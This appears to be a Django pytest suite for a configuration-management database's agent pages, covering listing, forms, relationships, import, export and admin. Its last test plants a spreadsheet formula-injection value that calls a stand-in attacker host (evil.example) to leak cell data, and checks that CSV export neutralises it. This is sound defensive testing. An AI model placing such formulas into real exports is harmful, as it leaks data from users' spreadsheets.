"""Agent desk pages: list (constant queries), detail, schema-driven forms, import, export."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cmdb.models import ConfigurationItem, ImportJob, Relationship
from cmdb.tests.factories import ci_class, make_ci
from core.models import AuditEntry

pytestmark = pytest.mark.django_db


@pytest.fixture
def desk(client, agent):
    client.force_login(agent)
    return client


def _queries(client, url):
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    return len(ctx.captured_queries), response


def test_list_page_query_count_is_constant(desk, team):
    for i in range(10):
        make_ci(f"s{i:03d}", "server", owner_group=team)
    url = reverse("cmdb:ci_list") + "?page_size=100"
    _queries(desk, url)
    ten, response = _queries(desk, url)
    assert response.content.decode().count('data-testid="ci-row"') == 10
    for i in range(10, 100):
        make_ci(f"s{i:03d}", "server", owner_group=team)
    hundred, response = _queries(desk, url)
    assert response.content.decode().count('data-testid="ci-row"') == 100
    assert ten == hundred


def test_list_filters_and_htmx_fragment(desk):
    make_ci("esx-1", "server")
    make_ci("db-1", "database", attributes={"engine": "oracle"}, environment="test")
    response = desk.get(reverse("cmdb:ci_list"), {"ci_class": "database", "environment": "test"})
    assert "db-1" in response.content.decode() and "esx-1" not in response.content.decode()
    fragment = desk.get(reverse("cmdb:ci_list"), {"q": "esx"}, HTTP_HX_REQUEST="true")
    assert "<html" not in fragment.content.decode() and "esx-1" in fragment.content.decode()
    assert "HX-Request" in fragment["Vary"]


def test_end_users_are_refused(client, end_user):
    client.force_login(end_user)
    assert client.get(reverse("cmdb:ci_list")).status_code == 403


def test_detail_page_shows_attributes_relationships_graph_impact_and_history(desk, estate, agent):
    from cmdb import services
    from core.choices import Channel

    services.update_ci(estate["vm"], actor=agent, channel=Channel.WEB, changes={"location": "DC2"},
                       authorised_by="CHG0001001")
    response = desk.get(reverse("cmdb:ci_detail", args=[estate["vm"].pk]))
    html = response.content.decode()
    assert response.status_code == 200
    assert 'data-testid="dependency-graph"' in html and "<svg" in html
    for name in ("payroll-web", "payroll-db", "esx-01", "Payroll"):
        assert name in html
    assert "Authorised by change CHG0001001" in html
    assert 'data-testid="ci-tickets"' in html
    panel = desk.get(reverse("cmdb:ci_detail", args=[estate["vm"].pk]), {"panel": "services"}, HTTP_HX_REQUEST="true")
    assert "<html" not in panel.content.decode() and "Payroll" in panel.content.decode()


def test_create_form_fields_follow_the_class_schema(desk):
    response = desk.get(reverse("cmdb:ci_create"), {"ci_class": "database"})
    html = response.content.decode()
    assert 'name="attr__engine"' in html and 'name="attr__port"' in html
    assert 'name="attr__cpu_count"' not in html


def test_create_via_form_and_attribute_errors(desk):
    url = reverse("cmdb:ci_create")
    base = {"ci_class": ci_class("server").pk, "name": "esx-9", "status": "in_use", "environment": "production",
            "criticality": 2}
    bad = desk.post(url, {**base, "attr__cpu_count": "0"})
    assert bad.status_code == 400
    assert not ConfigurationItem.objects.exists()
    response = desk.post(url, {**base, "attr__cpu_count": "8", "attr__os": "RHEL 9", "tags_text": "pci, dr",
                               "authorised_by": "CHG0000007"})
    ci = ConfigurationItem.objects.get()
    assert response.status_code == 302 and response["Location"] == ci.get_absolute_url()
    assert (ci.attributes, ci.tags) == ({"cpu_count": 8, "os": "RHEL 9"}, ["pci", "dr"])
    assert AuditEntry.objects.for_object(ci).get().context == {"change": "CHG0000007"}


def test_edit_with_stale_version_shows_an_error(desk):
    ci = make_ci("esx-1", "server")
    url = reverse("cmdb:ci_update", args=[ci.pk])
    data = {"ci_class": ci.ci_class_id, "name": "esx-2", "status": "in_use", "environment": "production",
            "criticality": 3, "version": 9}
    response = desk.post(url, data)
    assert response.status_code == 400 and "changed by someone else" in response.content.decode()
    ci.refresh_from_db()
    assert ci.name == "esx-1"
    response = desk.post(url, {**data, "version": 1})
    ci.refresh_from_db()
    assert (response.status_code, ci.name, ci.version) == (302, "esx-2", 2)


def test_relationship_add_and_remove_from_the_detail_page(desk):
    app, vm = make_ci("app", "application"), make_ci("vm", "virtual_machine")
    url = reverse("cmdb:relationship_add", args=[app.pk])
    assert desk.post(url, {"side": "out", "type": "runs_on", "other": vm.pk}).status_code == 302
    rel = Relationship.objects.get()
    assert (rel.source, rel.target) == (app, vm)
    by_name = desk.post(url, {"side": "in", "type": "depends_on", "other": "vm"})
    assert by_name.status_code == 302
    assert Relationship.objects.filter(source=vm, target=app, type="depends_on").delete()[0] == 1
    unknown = desk.post(url, {"side": "in", "type": "depends_on", "other": "nope"})
    assert unknown.status_code == 400 and "No CI matches" in unknown.content.decode()
    loop = desk.post(url, {"side": "out", "type": "runs_on", "other": app.pk})
    assert loop.status_code == 400 and "cannot be related to itself" in loop.content.decode()
    desk.post(reverse("cmdb:relationship_delete", args=[rel.pk]), {"ci": app.pk})
    assert not Relationship.objects.exists()


def test_import_page_dry_run_then_run(desk):
    upload = SimpleUploadedFile("cis.csv", b"ci_class,name\nserver,esx-1\nserver,esx-2\n", content_type="text/csv")
    response = desk.post(reverse("cmdb:import"), {"kind": "cis", "file": upload, "dry_run": "on"})
    job = ImportJob.objects.get()
    assert response["Location"] == reverse("cmdb:import_job", args=[job.pk])
    page = desk.get(response["Location"]).content.decode()
    assert "Dry run: 2 to create" in page and not ConfigurationItem.objects.exists()
    fragment = desk.get(response["Location"], HTTP_HX_REQUEST="true").content.decode()
    assert 'data-status="done"' in fragment and "hx-trigger" not in fragment
    desk.post(reverse("cmdb:import_job", args=[job.pk]))
    assert ConfigurationItem.objects.count() == 2


def test_import_refuses_other_file_types(desk):
    upload = SimpleUploadedFile("cis.xlsx", b"PK", content_type="application/octet-stream")
    response = desk.post(reverse("cmdb:import"), {"kind": "cis", "file": upload})
    assert response.status_code == 400 and not ImportJob.objects.exists()


def test_import_refuses_binary_content_renamed_csv(desk):
    upload = SimpleUploadedFile("cis.csv", b"ci_class,name\nserver,a\x00b\n", content_type="text/csv")
    response = desk.post(reverse("cmdb:import"), {"kind": "cis", "file": upload})
    assert response.status_code == 400 and not ImportJob.objects.exists()
    assert "The file is not text: it holds binary content." in response.content.decode()


def test_export_filtered_list_as_csv_and_json(desk):
    make_ci("esx-1", "server", attributes={"cpu_count": 4})
    make_ci("db-1", "database", attributes={"engine": "oracle"})
    response = desk.get(reverse("cmdb:export"), {"ci_class": "server", "format": "csv"})
    text = b"".join(response.streaming_content).decode()
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("ci_class,name,environment") and len(lines) == 2 and "esx-1" in lines[1]
    response = desk.get(reverse("cmdb:export"), {"ci_class": "database", "format": "json"})
    data = json.loads(b"".join(response.streaming_content))
    assert [(d["name"], d["attributes"]) for d in data] == [("db-1", {"engine": "oracle"})]
    rels = desk.get(reverse("cmdb:export"), {"kind": "relationships", "format": "json"})
    assert json.loads(b"".join(rels.streaming_content)) == []


@pytest.mark.parametrize("model", ["ciclass", "configurationitem", "relationshiprule", "importjob"])
def test_admin_pages_load(client, admin_user, model):
    make_ci("esx-1", "server")
    ImportJob.objects.create(kind="cis", payload="", filename="x.csv")
    client.force_login(admin_user)
    assert client.get(reverse(f"admin:cmdb_{model}_changelist")).status_code == 200
    first = {"ciclass": ci_class("server").pk, "configurationitem": ConfigurationItem.objects.get().pk,
             "importjob": ImportJob.objects.get().pk}.get(model)
    if first:
        assert client.get(reverse(f"admin:cmdb_{model}_change", args=[first])).status_code == 200


def test_admin_refuses_a_broken_schema(client, admin_user):
    client.force_login(admin_user)
    response = client.post(reverse("admin:cmdb_ciclass_add"), {
        "slug": "printer", "name": "Printer", "attribute_schema": '{"type": "objekt"}', "description": "",
        "icon": "", "colour": ""})
    assert response.status_code == 200 and "attribute_schema" in response.context["adminform"].form.errors
    response = client.post(reverse("admin:cmdb_ciclass_add"), {
        "slug": "printer", "name": "Printer", "description": "", "icon": "", "colour": "",
        "attribute_schema": '{"type": "object", "properties": {"pages_per_minute": {"type": "integer"}}}'})
    assert response.status_code == 302
    assert ci_class("printer").attribute_schema["properties"]["pages_per_minute"] == {"type": "integer"}


def test_detail_page_draws_peer_links_but_does_not_count_them_as_impact(desk, estate):
    from cmdb.tests.factories import relate

    peer = make_ci("sw-core-02", "network_device")
    relate(peer, estate["switch"], "connects_to")
    response = desk.get(reverse("cmdb:ci_detail", args=[estate["switch"].pk]))
    html = response.content.decode()
    assert "sw-core-02" in html and "peer link" in html and "stroke-dasharray" in html
    impact = html.split('data-testid="impact-table"')[1]
    assert "esx-01" in impact and "sw-core-02" not in impact
    panel = desk.get(reverse("cmdb:ci_detail", args=[peer.pk]), {"panel": "services"}, HTTP_HX_REQUEST="true")
    assert "Payroll" not in panel.content.decode()


def test_export_csv_cells_are_never_formulas(desk):
    # given: a CI whose name and tags a spreadsheet would run as formulas
    make_ci('=HYPERLINK("http://evil.example/?"&A1,"open")', "server", tags=["@SUM(1)", "ok"], location="+1")
    # when
    response = desk.get(reverse("cmdb:export"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode().lstrip("\ufeff"))))
    # then: each is quoted so the spreadsheet shows it as text
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert rows[0]["tags"] == "'@SUM(1);ok"
    assert rows[0]["location"] == "'+1"
